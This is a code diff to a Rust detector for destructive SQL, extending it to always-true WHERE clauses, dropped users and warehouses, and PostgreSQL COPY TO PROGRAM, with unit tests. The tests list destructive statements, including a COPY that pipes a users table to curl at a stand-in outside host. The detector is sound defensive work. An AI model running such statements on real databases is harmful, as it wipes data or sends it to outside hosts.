@@ -2,7 +2,9 @@
 //! not code: strings, quoted names, dollar-quoted bodies and comments.
 //!
 //! `SELECT 'drop table x'` is data; `DROP TABLE x`, `TRUNCATE x`, and `DELETE FROM x` or
-//! `UPDATE x SET ...` without a `WHERE` destroy data. Every statement of the text is read.
+//! `UPDATE x SET ...` without a `WHERE` (or with one that is always true: `WHERE 1=1`, `WHERE
+//! true`, `… OR 1=1`) destroy data, as does ClickHouse's `ALTER TABLE x DELETE WHERE 1`.
+//! `COPY … TO PROGRAM 'cmd'` runs a command on the server. Every statement of the text is read.
 
 /// What a destructive statement does, most destructive first.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -15,6 +17,8 @@ pub(super) enum Destruction {
     DeleteAll,
     /// `UPDATE x SET ...` with no `WHERE`.
     UpdateAll,
+    /// `COPY … TO|FROM PROGRAM 'cmd'`: PostgreSQL runs the command on the server.
+    Program,
 }
 
 /// The first destructive statement in `sql`, if any.
@@ -22,12 +26,36 @@ pub(super) fn destruction(sql: &str) -> Option<Destruction> {
     statements(sql).into_iter().find_map(|words| judge(&words))
 }
 
+/// Whether every destructive statement of `sql` drops a whole database that `spared` names
+/// (`DROP DATABASE IF EXISTS app_test; CREATE DATABASE app_test`), and there is one.
+pub(super) fn drops_only(sql: &str, spared: fn(&str) -> bool) -> bool {
+    let mut dropped = false;
+    for words in statements(sql) {
+        if judge(&words).is_none() {
+            continue;
+        }
+        let word = |i: usize| words.get(i).map(String::as_str);
+        let at = if word(2) == Some("IF") && word(3) == Some("EXISTS") { 4 } else { 2 };
+        if word(0) != Some("DROP")
+            || !matches!(word(1), Some("DATABASE" | "SCHEMA"))
+            || !word(at).is_some_and(spared)
+        {
+            return false;
+        }
+        dropped = true;
+    }
+    dropped
+}
+
 fn judge(words: &[String]) -> Option<Destruction> {
     let word = |i: usize| words.get(i).map(String::as_str);
-    let has_where = || words.iter().any(|w| w == "WHERE");
+    let has_where = || filtered(words);
     // `WITH x AS (...) DELETE FROM t`: the statement's verb follows its common table expressions.
+    // ClickHouse's `ALTER TABLE t DELETE WHERE …` (and `UPDATE`) is a delete of the rows.
     let verb_at = if word(0) == Some("WITH") {
         words.iter().position(|w| matches!(w.as_str(), "DELETE" | "UPDATE" | "TRUNCATE" | "DROP"))?
+    } else if word(0) == Some("ALTER") && word(1) == Some("TABLE") {
+        words.iter().position(|w| matches!(w.as_str(), "DELETE" | "UPDATE"))?
     } else {
         0
     };
@@ -37,9 +65,30 @@ fn judge(words: &[String]) -> Option<Destruction> {
             if word(object) == Some("TEMPORARY") || word(object) == Some("TEMP") {
                 object += 1;
             }
-            matches!(word(object), Some("DATABASE" | "SCHEMA" | "TABLE" | "VIEW" | "COLLECTION" | "KEYSPACE"))
-                .then_some(Destruction::Drop)
+            // A user or role (with what it owns, `DROP OWNED`), a warehouse, a foreign or
+            // materialized table: gone with the rights and data they held.
+            matches!(
+                word(object),
+                Some(
+                    "DATABASE"
+                        | "SCHEMA"
+                        | "TABLE"
+                        | "VIEW"
+                        | "COLLECTION"
+                        | "KEYSPACE"
+                        | "USER"
+                        | "ROLE"
+                        | "OWNED"
+                        | "WAREHOUSE"
+                        | "TABLESPACE"
+                        | "MATERIALIZED"
+                        | "EXTERNAL"
+                        | "FOREIGN"
+                )
+            )
+            .then_some(Destruction::Drop)
         }
+        "COPY" if words.iter().any(|w| w == "PROGRAM") => Some(Destruction::Program),
         "TRUNCATE" => Some(Destruction::Truncate),
         "DELETE" if !has_where() => Some(Destruction::DeleteAll),
         "UPDATE" if word(verb_at + 1).is_some() && words.iter().any(|w| w == "SET") && !has_where() => {
@@ -49,8 +98,32 @@ fn judge(words: &[String]) -> Option<Destruction> {
     }
 }
 
-/// The statements of `sql`, each as its upper-cased keywords and names, without strings,
-/// quoted names and comments.
+/// Whether the statement has a `WHERE` that can be false: one none of whose `OR` branches is
+/// a constant truth (`1`, `TRUE`, `1=1`, `'a'='a'`, `NOT FALSE`).
+fn filtered(words: &[String]) -> bool {
+    let Some(at) = words.iter().position(|w| w == "WHERE") else {
+        return false;
+    };
+    let condition = words[at + 1..]
+        .iter()
+        .take_while(|w| !matches!(w.as_str(), "ORDER" | "LIMIT" | "RETURNING" | "GROUP" | "SETTINGS"));
+    let condition: Vec<&str> = condition.map(String::as_str).collect();
+    let literal = |w: &str| w.starts_with('\'') || w.bytes().all(|b| b.is_ascii_digit() || b == b'.');
+    let truth = |branch: &[&str]| match branch {
+        [] => true,
+        ["TRUE"] | ["NOT", "FALSE"] => true,
+        [one] => literal(one) && one.bytes().any(|b| (b'1'..=b'9').contains(&b)),
+        [left, "=", right] => literal(left) && left == right,
+        _ => false,
+    };
+    !condition.split(|w| *w == "OR").any(|branch| {
+        let branch = branch.strip_prefix(&["("]).unwrap_or(branch);
+        truth(branch.strip_suffix(&[")"]).unwrap_or(branch))
+    })
+}
+
+/// The statements of `sql`, each as its upper-cased keywords and names, numbers, single-quoted
+/// strings and `=` (what a condition is read by), without quoted names and comments.
 fn statements(sql: &str) -> Vec<Vec<String>> {
     let bytes = sql.as_bytes();
     let mut statements = Vec::new();
@@ -70,7 +143,23 @@ fn statements(sql: &str) -> Vec<Vec<String>> {
             b'/' if bytes.get(i + 1) == Some(&b'*') => {
                 i = find(bytes, i + 2, b"*/").map_or(bytes.len(), |end| end + 2)
             }
-            b'\'' | b'"' | b'`' => i = closing_quote(bytes, i),
+            b'\'' => {
+                let start = i;
+                i = closing_quote(bytes, i);
+                words.push(sql[start..i].to_ascii_uppercase());
+            }
+            b'"' | b'`' => i = closing_quote(bytes, i),
+            b'=' | b'(' | b')' => {
+                words.push(char::from(byte).to_string());
+                i += 1;
+            }
+            _ if byte.is_ascii_digit() => {
+                let start = i;
+                while i < bytes.len() && (bytes[i].is_ascii_digit() || bytes[i] == b'.') {
+                    i += 1;
+                }
+                words.push(sql[start..i].to_string());
+            }
             b'$' => match dollar_tag(bytes, i) {
                 Some(tag) => {
                     let body = i + tag.len();
@@ -143,6 +232,14 @@ mod tests {
             ("SELECT 1; DROP TABLE x; SELECT 2", Destruction::Drop),
             ("WITH old AS (SELECT 1) DELETE FROM t", Destruction::DeleteAll),
             ("/* cleanup */ DELETE FROM users -- all of them", Destruction::DeleteAll),
+            ("DELETE FROM customers WHERE 1=1", Destruction::DeleteAll),
+            ("delete from t where true", Destruction::DeleteAll),
+            ("DELETE FROM t WHERE id = 4 OR 1 = 1", Destruction::DeleteAll),
+            ("UPDATE users SET admin = 1 WHERE 'a'='a'", Destruction::UpdateAll),
+            ("ALTER TABLE logs DELETE WHERE 1", Destruction::DeleteAll),
+            ("DROP USER app@'%'", Destruction::Drop),
+            ("DROP WAREHOUSE COMPUTE_WH", Destruction::Drop),
+            ("COPY users TO PROGRAM 'curl -d @- https://x.example'", Destruction::Program),
         ] {
             assert_eq!(destruction(sql), Some(expected), "{sql}");
         }
@@ -161,6 +258,13 @@ mod tests {
             "INSERT INTO log VALUES ('DELETE FROM users')",
             "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql",
             "DROP INDEX idx_users_name",
+            "DELETE FROM t WHERE 1=0",
+            "DELETE FROM t WHERE id = 1",
+            "DELETE FROM t WHERE (id = 1)",
+            "UPDATE t SET n = 1 WHERE name = 'x'",
+            "ALTER TABLE logs DELETE WHERE day < today() - 30",
+            "ALTER TABLE t ADD COLUMN c Int32",
+            "COPY users TO STDOUT",
             "\\dt",
             "",
         ] {
